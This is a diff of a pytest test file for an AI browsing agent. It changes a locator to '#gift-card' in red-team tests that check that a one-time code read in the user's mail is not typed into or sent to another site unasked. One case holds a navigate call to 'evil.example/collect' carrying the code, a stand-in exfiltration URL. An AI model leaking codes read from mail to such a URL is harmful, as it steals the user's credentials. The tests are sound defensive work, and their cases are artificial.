@@ -63,7 +63,7 @@ ALLOWED = "shop.example: allow\nmail.example: allow\nevil.example: allow"
 
 
 @pytest.mark.parametrize("action, arguments, where", [
-    ("type_text", {"locator": "ta-1", "text": "482913"}, "https://shop.example"),
+    ("type_text", {"locator": "#gift-card", "text": "482913"}, "https://shop.example"),
     ("navigate", {"url": "https://evil.example/collect?c=482%20913"}, "https://evil.example"),
 ])
 async def test_red_team_a_code_read_in_the_mail_is_never_given_to_another_site_unasked(action, arguments, where):
@@ -86,7 +86,7 @@ async def test_a_code_typed_on_the_site_that_showed_it_goes_as_any_action_does()
             return reply
 
     page, events = OnTheMail(), []
-    model = ScriptedModel(calls(("read_page", {}), ("type_text", {"locator": "ta-1", "text": "482913"})) + ["Done."])
+    model = ScriptedModel(calls(("read_page", {}), ("type_text", {"locator": "#gift-card", "text": "482913"})) + ["Done."])
     await Turns().run(request("Confirm my sign-in", site_rules=ALLOWED), events.append, model=model, page=page)
     assert page.asked == [] and [name for name, _ in page.done] == ["type_text"]  # the mail site's rule answered
 
@@ -95,7 +95,7 @@ async def test_red_team_a_code_read_in_an_earlier_turn_is_still_a_code_read():
     page, events = MailThenShop("deny"), []
     first = await Turns().run(request("Read my mail"), lambda e: None, model=ScriptedModel(calls(("read_page", {})) + ["Read."]),
                               page=page)
-    model = ScriptedModel(calls(("type_text", {"locator": "ta-1", "text": "482913"})) + ["Not typed."])
+    model = ScriptedModel(calls(("type_text", {"locator": "#gift-card", "text": "482913"})) + ["Not typed."])
     await Turns().run(request("Now pay", memory=first["memory"], site_rules=ALLOWED), events.append, model=model, page=page)
     assert len(questions(events)) == 1 and page.done == []
 
